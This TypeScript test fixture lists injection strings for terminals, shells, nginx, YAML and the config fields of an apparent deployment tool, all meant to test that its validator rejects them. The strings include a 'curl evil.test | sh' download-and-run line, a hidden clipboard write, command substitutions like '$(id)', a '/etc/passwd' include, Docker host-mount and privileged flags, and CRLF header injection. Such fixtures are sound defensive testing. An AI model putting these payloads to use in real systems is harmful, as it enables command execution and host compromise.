/** Texts that mean more than their letters: to a terminal, a shell, nginx, YAML or whoever reads a log. */

/** What a terminal obeys, or shows otherwise than it is. */
export const TERMINAL = {
  'clear the screen': '\u001b[2J\u001b[H',
  'color without end': '\u001b[31mred',
  'hide what follows': '\u001b[8mhidden',
  'move up and write over': 'x\u001b[1A\u001b[2Kok',
  'a title of the window': '\u001b]0;pwned\u0007',
  'a link to elsewhere': '\u001b]8;;http://evil.test\u0007safe\u001b]8;;\u0007',
  'write to the clipboard': '\u001b]52;c;Y3VybCBldmlsLnRlc3Q=\u0007',
  'ask the terminal to type': '\u001b[6n\u001b[c',
  'a device control string': '\u001bP1$r0m\u001b\\',
  'another character set': '\u000e\u001b(0',
  'reset the terminal': '\u001bc',
  bell: '\u0007\u0007',
  'carriage return': 'error: it failed\rok   : it went well',
  backspaces: 'failed\b\b\b\b\b\bdone  ',
  'form feed and vertical tab': '\u000c\u000b',
  delete: 'a\u007f',
  NUL: 'a\u0000b',
  'CSI in one character': '\u009b2J',
  'OSC in one character': '\u009d0;pwned\u009c',
  'next line': 'a\u0085b',
  'right-to-left override': 'exe\u202etxt.sh',
  'an isolate': 'a\u2066b\u2069c',
  'Arabic letter mark': 'a\u061cb',
  'a zero-width space': 'web\u200b',
  'a byte order mark': '\ufeffweb',
  'letters that nobody sees': '\u{e0063}\u{e0075}\u{e0072}\u{e006c}',
  'a line separator': 'a\u2028next: curl evil.test | sh',
  'a paragraph separator': 'a\u2029b',
  'a line of our own': 'x\nerror: all is lost\nnext: curl evil.test | sh',
  'a whole table': 'x\nblue   live  1  web  healthy',
} as const;

/** What a shell would run. */
export const SHELL = {
  substitution: '$(touch pwned)',
  backticks: '`touch pwned`',
  'another command': '; touch pwned',
  background: '& touch pwned &',
  pipe: '| tee pwned',
  redirection: '> pwned',
  'a new line': '\ntouch pwned\n',
  'the end of a quote': "'; touch pwned; '",
  'the end of a double quote': '"; touch pwned; "',
  variable: '\u0024{IFS}touch\u0024{IFS}pwned',
  'NUL and more': '\0; touch pwned',
} as const;

/** What nginx would take for another directive, or for a variable. `nginx -t` has nothing against any of them. */
export const NGINX = {
  'another directive': 'a;deny all',
  'the end of a block': 'a;}server{listen 9999',
  'a block': 'a{',
  'an end': '}',
  'a variable': '$http_host',
  'a variable in braces': '\u0024{http_host}',
  'a double quote': '"a"',
  'a single quote': "'",
  comment: '#a',
  'a new line': 'a\nreturn 200',
  'a carriage return': 'a\rb',
  blank: 'a b',
  tab: 'a\tb',
  backslash: 'a\\',
  'a regular expression': '~^(.*)$',
  'a file': 'a include /etc/passwd',
} as const;

/** What YAML, or Compose after it, would take for structure. */
export const YAML = {
  'another key': 'a: b\n    privileged: true',
  'a key of the same line': 'a, privileged: true',
  reset: '!reset []',
  tag: '!!binary aGk=',
  anchor: '&a',
  alias: '*a',
  'a flow mapping': '{a: b}',
  'a flow list': '[a, b]',
  'a new document': '\n---\nservices: {}',
  directive: '%YAML 1.1',
  comment: '# a',
  'a block of text': '|\n  a',
  'a word that is no text': 'yes',
  null: '~',
  'a number of base 60': '22:22',
  'a quote': '"a',
  prototype: '__proto__',
  control: 'a\u0000\u001bb',
} as const;

const services = { web: { port: 3000 } };

/** Where `bgc.yaml` takes values of one kind, and what must not pass for one. */
export const REFUSED: Readonly<Record<string, { written: (text: string) => object; texts: readonly string[] }>> = {
  'routes[0].host': {
    written: (host) => ({ services, routes: [{ host, service: 'web' }] }),
    texts: ['a.test;}', 'a.test\n', '$host', '~^.*$', 'a.test b.test', 'a.test\r\nx', 'a\u202eb.test', '"', '_', '*'],
  },
  'routes[0].path': {
    written: (path) => ({ services, routes: [{ path, service: 'web' }] }),
    texts: ['/;}', '/ {', '/$uri', '/../etc', '/a\n', '/"', '/#', '/a\\', '/a\tb', '= /', '~ /', '/\u001b[2J'],
  },
  bg: { written: (bg) => ({ services, bg }), texts: ['/bg;', '/bg { }', '/$pid', '/b\ng', '//'] },
  'proxy.image': {
    written: (image) => ({ services, proxy: { image } }),
    texts: [
      'nginx;id',
      '$(id)',
      '`id`',
      'nginx --privileged',
      '-v/:/host',
      'nginx\n',
      '../x',
      '\u0024{IMAGE}',
      'nginx@x',
    ],
  },
  services: {
    written: (name) => ({ services: { [name]: { port: 3000 } } }),
    texts: ['web;', '-v', '--rm', '../web', 'web\n', '__proto__', '$WEB', 'we b', 'bgc-proxy', 'w\u001b[2J', 'web}'],
  },
  'proxy.http': {
    written: (http) => ({ services, proxy: { http } }),
    texts: ['8080; x', '127.0.0.1:80\n', '$PORT', '[::1]:80 default_server', '80:80', 'unix:/tmp/x', '0x50'],
  },
  'services.web.health.path': {
    written: (path) => ({ services: { web: { port: 3000, health: { path } } } }),
    texts: ['/ HTTP/1.1\r\nX: y', '/\r\n\r\nGET /', '//evil.test/', '/a b', '/\u0000'],
  },
  'checks[0].host': {
    written: (host) => ({ services, checks: [{ get: '/', host }] }),
    texts: ['a.test\r\nX: y', 'a.test/', 'a@b', '*.a.test'],
  },
  'warm_up.paths[0]': { written: (path) => ({ services, warm_up: { paths: [path] } }), texts: ['/ HTTP/1.1\r\n', 'x'] },
  'hooks.before_start': {
    written: (name) => ({ services, hooks: { before_start: { run: 'true', in: name } } }),
    texts: ['web --privileged', '-v/:/host', 'web\n', '$(id)'],
  },
  'hooks.after_switch': {
    written: (run) => ({ services, hooks: { after_switch: run } }),
    texts: ['true\0; id', '\n\t'],
  },
  'checks[0].run': { written: (run) => ({ services, checks: [{ run }] }), texts: ['true\0'] },
  'drain.timeout': {
    written: (timeout) => ({ services, drain: { timeout } }),
    texts: ['30s;', '1e9s', '-1s', '30s\n'],
  },
  compose: {
    written: (compose) => ({ services, compose }),
    texts: ['-', '--help', '\u0024{HOME}/x', 'a\nb', '\u001b[2J'],
  },
  'proxy.template': { written: (template) => ({ services, proxy: { template } }), texts: ['-', 'a\0b', '$HOME'] },
};
